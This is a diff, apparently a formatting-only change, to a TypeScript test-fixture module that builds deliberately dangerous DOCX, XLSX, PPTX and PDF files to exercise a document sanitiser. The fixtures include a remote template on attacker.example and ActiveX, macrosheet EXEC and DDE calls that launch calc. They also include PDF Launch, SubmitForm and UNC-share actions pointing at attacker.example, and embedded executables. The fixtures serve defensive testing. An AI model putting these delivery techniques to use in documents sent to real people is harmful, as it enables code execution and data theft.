@@ -31,12 +31,18 @@ interface Rel {
 }
 
 function rels(list: readonly Rel[]): string {
-  const items = list.map((r) => `<Relationship Id="${r.id}" Type="${r.type}" Target="${escapeXml(r.target)}"${r.external ? ' TargetMode="External"' : ''}/>`).join('');
+  const items = list
+    .map(
+      (r) => `<Relationship Id="${r.id}" Type="${r.type}" Target="${escapeXml(r.target)}"${r.external ? ' TargetMode="External"' : ''}/>`,
+    )
+    .join('');
   return `${XML}<Relationships xmlns="${PKG_RELS}">${items}</Relationships>`;
 }
 
 function contentTypes(defaults: Readonly<Record<string, string>>, overrides: Readonly<Record<string, string>>): string {
-  const d = Object.entries({ rels: 'application/vnd.openxmlformats-package.relationships+xml', xml: 'application/xml', ...defaults }).map(([e, t]) => `<Default Extension="${e}" ContentType="${t}"/>`);
+  const d = Object.entries({ rels: 'application/vnd.openxmlformats-package.relationships+xml', xml: 'application/xml', ...defaults }).map(
+    ([e, t]) => `<Default Extension="${e}" ContentType="${t}"/>`,
+  );
   const o = Object.entries(overrides).map(([part, t]) => `<Override PartName="/${part}" ContentType="${t}"/>`);
   return `${XML}<Types xmlns="${CT}">${d.join('')}${o.join('')}</Types>`;
 }
@@ -96,14 +102,26 @@ export async function dangerousDocx(): Promise<Buffer> {
       ]),
     },
     { name: 'word/settings.xml', data: `${XML}<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:attachedTemplate r:id="rId1"/></w:settings>` },
-    { name: 'word/_rels/settings.xml.rels', data: rels([{ id: 'rId1', type: `${REL}/attachedTemplate`, target: 'http://attacker.example/template.dotm', external: true }]) },
+    {
+      name: 'word/_rels/settings.xml.rels',
+      data: rels([{ id: 'rId1', type: `${REL}/attachedTemplate`, target: 'http://attacker.example/template.dotm', external: true }]),
+    },
     { name: 'word/vbaProject.bin', data: OLE_BYTES },
     { name: 'word/_rels/vbaProject.bin.rels', data: rels([{ id: 'rId1', type: `${MSREL}/wordVbaData`, target: 'vbaData.xml' }]) },
     { name: 'word/vbaData.xml', data: `${XML}<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>` },
-    { name: 'word/afchunk.htm', data: '<html><body><script>new ActiveXObject("WScript.Shell").Run("calc")</script><p>chunk</p></body></html>' },
+    {
+      name: 'word/afchunk.htm',
+      data: '<html><body><script>new ActiveXObject("WScript.Shell").Run("calc")</script><p>chunk</p></body></html>',
+    },
     { name: 'word/media/image9.png', data: OLE_BYTES },
-    { name: 'word/activeX/activeX1.xml', data: `${XML}<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="${R}" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStreamInit" r:id="rId1"/>` },
-    { name: 'word/activeX/_rels/activeX1.xml.rels', data: rels([{ id: 'rId1', type: `${MSREL}/activeXControlBinary`, target: 'activeX1.bin' }]) },
+    {
+      name: 'word/activeX/activeX1.xml',
+      data: `${XML}<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="${R}" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStreamInit" r:id="rId1"/>`,
+    },
+    {
+      name: 'word/activeX/_rels/activeX1.xml.rels',
+      data: rels([{ id: 'rId1', type: `${MSREL}/activeXControlBinary`, target: 'activeX1.bin' }]),
+    },
     { name: 'word/activeX/activeX1.bin', data: Buffer.alloc(64, 1) },
   ];
   return zipOf(parts);
@@ -113,10 +131,16 @@ export async function dangerousDocx(): Promise<Buffer> {
 export async function cleanDocx(): Promise<Buffer> {
   const document = `${XML}<w:document xmlns:w="${W}" xmlns:r="${R}"><w:body><w:p><w:r><w:t>Clean report</w:t></w:r></w:p><w:p><w:hyperlink r:id="rId1"><w:r><w:t>Manual</w:t></w:r></w:hyperlink></w:p><w:sectPr/></w:body></w:document>`;
   return zipOf([
-    { name: '[Content_Types].xml', data: contentTypes({}, { 'word/document.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml' }) },
+    {
+      name: '[Content_Types].xml',
+      data: contentTypes({}, { 'word/document.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml' }),
+    },
     { name: '_rels/.rels', data: rootRels('word/document.xml') },
     { name: 'word/document.xml', data: document },
-    { name: 'word/_rels/document.xml.rels', data: rels([{ id: 'rId1', type: `${REL}/hyperlink`, target: 'https://example.com/manual', external: true }]) },
+    {
+      name: 'word/_rels/document.xml.rels',
+      data: rels([{ id: 'rId1', type: `${REL}/hyperlink`, target: 'https://example.com/manual', external: true }]),
+    },
   ]);
 }
 
@@ -148,15 +172,25 @@ export async function dangerousXlsx(): Promise<Buffer> {
         { id: 'rId3', type: `${REL}/externalLink`, target: 'externalLinks/externalLink1.xml' },
       ]),
     },
-    { name: 'xl/worksheets/sheet1.xml', data: `${XML}<worksheet xmlns="${S}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Pressure</t></is></c><c r="B1"><v>42</v></c></row></sheetData></worksheet>` },
-    { name: 'xl/macrosheets/sheet2.xml', data: `${XML}<xm:macrosheet xmlns="${S}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>` },
-    { name: 'xl/externalLinks/externalLink1.xml', data: `${XML}<externalLink xmlns="${S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>` },
+    {
+      name: 'xl/worksheets/sheet1.xml',
+      data: `${XML}<worksheet xmlns="${S}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Pressure</t></is></c><c r="B1"><v>42</v></c></row></sheetData></worksheet>`,
+    },
+    {
+      name: 'xl/macrosheets/sheet2.xml',
+      data: `${XML}<xm:macrosheet xmlns="${S}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>`,
+    },
+    {
+      name: 'xl/externalLinks/externalLink1.xml',
+      data: `${XML}<externalLink xmlns="${S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>`,
+    },
   ]);
 }
 
 const THEME = `${XML}<a:theme xmlns:a="${A}" name="T"><a:themeElements><a:clrScheme name="C"><a:dk1><a:srgbClr val="000000"/></a:dk1><a:lt1><a:srgbClr val="FFFFFF"/></a:lt1><a:dk2><a:srgbClr val="1F497D"/></a:dk2><a:lt2><a:srgbClr val="EEECE1"/></a:lt2><a:accent1><a:srgbClr val="4F81BD"/></a:accent1><a:accent2><a:srgbClr val="C0504D"/></a:accent2><a:accent3><a:srgbClr val="9BBB59"/></a:accent3><a:accent4><a:srgbClr val="8064A2"/></a:accent4><a:accent5><a:srgbClr val="4BACC6"/></a:accent5><a:accent6><a:srgbClr val="F79646"/></a:accent6><a:hlink><a:srgbClr val="0000FF"/></a:hlink><a:folHlink><a:srgbClr val="800080"/></a:folHlink></a:clrScheme><a:fontScheme name="F"><a:majorFont><a:latin typeface="Arial"/><a:ea typeface=""/><a:cs typeface=""/></a:majorFont><a:minorFont><a:latin typeface="Arial"/><a:ea typeface=""/><a:cs typeface=""/></a:minorFont></a:fontScheme><a:fmtScheme name="M"><a:fillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:fillStyleLst><a:lnStyleLst><a:ln w="9525"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln><a:ln w="25400"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln><a:ln w="38100"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln></a:lnStyleLst><a:effectStyleLst><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle></a:effectStyleLst><a:bgFillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>`;
 const GROUP = '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>';
-const CLR_MAP = '<p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/>';
+const CLR_MAP =
+  '<p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/>';
 
 /** A one-slide pptx whose title runs a program on click (ppaction://program) and links to a local executable. */
 export async function dangerousPptx(): Promise<Buffer> {
@@ -189,7 +223,10 @@ export async function dangerousPptx(): Promise<Buffer> {
         { id: 'rId3', type: `${REL}/theme`, target: 'theme/theme1.xml' },
       ]),
     },
-    { name: 'ppt/slideMasters/slideMaster1.xml', data: `${XML}<p:sldMaster ${ns}><p:cSld><p:spTree>${GROUP}</p:spTree></p:cSld>${CLR_MAP}<p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst></p:sldMaster>` },
+    {
+      name: 'ppt/slideMasters/slideMaster1.xml',
+      data: `${XML}<p:sldMaster ${ns}><p:cSld><p:spTree>${GROUP}</p:spTree></p:cSld>${CLR_MAP}<p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst></p:sldMaster>`,
+    },
     {
       name: 'ppt/slideMasters/_rels/slideMaster1.xml.rels',
       data: rels([
@@ -197,8 +234,14 @@ export async function dangerousPptx(): Promise<Buffer> {
         { id: 'rId2', type: `${REL}/theme`, target: '../theme/theme1.xml' },
       ]),
     },
-    { name: 'ppt/slideLayouts/slideLayout1.xml', data: `${XML}<p:sldLayout ${ns}><p:cSld><p:spTree>${GROUP}</p:spTree></p:cSld><p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sldLayout>` },
-    { name: 'ppt/slideLayouts/_rels/slideLayout1.xml.rels', data: rels([{ id: 'rId1', type: `${REL}/slideMaster`, target: '../slideMasters/slideMaster1.xml' }]) },
+    {
+      name: 'ppt/slideLayouts/slideLayout1.xml',
+      data: `${XML}<p:sldLayout ${ns}><p:cSld><p:spTree>${GROUP}</p:spTree></p:cSld><p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sldLayout>`,
+    },
+    {
+      name: 'ppt/slideLayouts/_rels/slideLayout1.xml.rels',
+      data: rels([{ id: 'rId1', type: `${REL}/slideMaster`, target: '../slideMasters/slideMaster1.xml' }]),
+    },
     { name: 'ppt/theme/theme1.xml', data: THEME },
     { name: 'ppt/slides/slide1.xml', data: slide },
     {
@@ -213,7 +256,20 @@ export async function dangerousPptx(): Promise<Buffer> {
 
 // ─── PDF ─────────────────────────────────────────────────────────────────────────────
 
-export type PdfActiveContent = 'open-action-js' | 'names-js' | 'page-aa' | 'launch' | 'submit-form' | 'import-data' | 'uri' | 'gotor' | 'gotoe' | 'xfa' | 'embedded-file' | 'file-attachment' | 'rich-media';
+export type PdfActiveContent =
+  | 'open-action-js'
+  | 'names-js'
+  | 'page-aa'
+  | 'launch'
+  | 'submit-form'
+  | 'import-data'
+  | 'uri'
+  | 'gotor'
+  | 'gotoe'
+  | 'xfa'
+  | 'embedded-file'
+  | 'file-attachment'
+  | 'rich-media';
 
 /** A one-page PDF with text and the chosen active content, written without object streams. */
 export async function pdfWith(active: readonly PdfActiveContent[]): Promise<Buffer> {
@@ -223,26 +279,47 @@ export async function pdfWith(active: readonly PdfActiveContent[]): Promise<Buff
   const { context, catalog } = document;
   const js = (code: string) => context.register(context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) }));
   const annots: PDFDict[] = [];
-  const link = (action: Record<string, unknown>) => annots.push(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [10, 10, 100, 40], Border: [0, 0, 0], A: context.obj(action as never) }));
+  const link = (action: Record<string, unknown>) =>
+    annots.push(
+      context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [10, 10, 100, 40], Border: [0, 0, 0], A: context.obj(action as never) }),
+    );
   const names = context.obj({});
   for (const item of active) {
     if (item === 'open-action-js') catalog.set(PDFName.of('OpenAction'), js('app.alert("open")'));
     if (item === 'names-js') names.set(PDFName.of('JavaScript'), context.obj({ Names: [PDFString.of('init'), js('app.alert("init")')] }));
     if (item === 'page-aa') page.node.set(PDFName.of('AA'), context.obj({ O: js('app.alert("page")') }));
-    if (item === 'launch') link({ S: 'Launch', F: PDFString.of('cmd.exe'), Win: { F: PDFString.of('cmd.exe'), P: PDFString.of('/c calc') } });
+    if (item === 'launch')
+      link({ S: 'Launch', F: PDFString.of('cmd.exe'), Win: { F: PDFString.of('cmd.exe'), P: PDFString.of('/c calc') } });
     if (item === 'submit-form') link({ S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('http://attacker.example/collect') } });
     if (item === 'import-data') link({ S: 'ImportData', F: PDFString.of('\\\\attacker.example\\share\\data.fdf') });
     if (item === 'uri') link({ S: 'URI', URI: PDFString.of('http://attacker.example/') });
     if (item === 'gotor') link({ S: 'GoToR', F: PDFString.of('\\\\attacker.example\\share\\other.pdf'), D: [0, PDFName.of('Fit')] });
     if (item === 'gotoe') link({ S: 'GoToE', T: { R: 'C', N: PDFString.of('x') } });
-    if (item === 'xfa') catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [], XFA: context.register(context.stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>')) }));
+    if (item === 'xfa')
+      catalog.set(
+        PDFName.of('AcroForm'),
+        context.obj({
+          Fields: [],
+          XFA: context.register(context.stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>')),
+        }),
+      );
     if (item === 'embedded-file') {
       const file = context.register(context.stream('MZ inert payload', { Type: 'EmbeddedFile' }));
-      names.set(PDFName.of('EmbeddedFiles'), context.obj({ Names: [PDFString.of('tool.exe'), context.obj({ Type: 'Filespec', F: PDFString.of('tool.exe'), EF: { F: file } })] }));
+      names.set(
+        PDFName.of('EmbeddedFiles'),
+        context.obj({ Names: [PDFString.of('tool.exe'), context.obj({ Type: 'Filespec', F: PDFString.of('tool.exe'), EF: { F: file } })] }),
+      );
     }
     if (item === 'file-attachment') {
       const file = context.register(context.stream('inert attachment', { Type: 'EmbeddedFile' }));
-      annots.push(context.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [200, 10, 220, 30], FS: { Type: 'Filespec', F: PDFString.of('a.hta'), EF: { F: file } } }));
+      annots.push(
+        context.obj({
+          Type: 'Annot',
+          Subtype: 'FileAttachment',
+          Rect: [200, 10, 220, 30],
+          FS: { Type: 'Filespec', F: PDFString.of('a.hta'), EF: { F: file } },
+        }),
+      );
     }
     if (item === 'rich-media') annots.push(context.obj({ Type: 'Annot', Subtype: 'RichMedia', Rect: [230, 10, 260, 30] }));
   }
@@ -287,11 +364,15 @@ export async function jpegWithExtras(): Promise<Buffer> {
   return Buffer.concat([jpeg, APPENDED]);
 }
 
-export const XMP = '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>patient room 3</dc:title></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>';
+export const XMP =
+  '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>patient room 3</dc:title></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>';
 
 /** A TIFF with an XMP packet (sharp writes no EXIF into TIFF). */
 export async function tiffWithXmp(): Promise<Buffer> {
-  return sharp(testPixels(), { raw: { width: 32, height: 24, channels: 3 } }).withXmp(XMP).tiff({ compression: 'lzw' }).toBuffer();
+  return sharp(testPixels(), { raw: { width: 32, height: 24, channels: 3 } })
+    .withXmp(XMP)
+    .tiff({ compression: 'lzw' })
+    .toBuffer();
 }
 
 /** A 24-bit BMP (bottom-up, BITMAPINFOHEADER) with junk in its row padding and bytes appended. */
@@ -308,7 +389,8 @@ export function bmpWithExtras(width = 5, height = 3): { bmp: Buffer; pixels: Buf
   header.writeUInt16LE(24, 28);
   const data = Buffer.alloc(stride * height, 0x7a); // padding bytes are 'z', not zero
   const pixels = Buffer.alloc(rowBytes * height);
-  for (let row = 0; row < height; row++) for (let i = 0; i < rowBytes; i++) data[row * stride + i] = pixels[row * rowBytes + i] = (row * 40 + i * 7) & 0xff;
+  for (let row = 0; row < height; row++)
+    for (let i = 0; i < rowBytes; i++) data[row * stride + i] = pixels[row * rowBytes + i] = (row * 40 + i * 7) & 0xff;
   const bmp = Buffer.concat([header, data, APPENDED]);
   bmp.writeUInt32LE(bmp.length, 2);
   return { bmp, pixels };
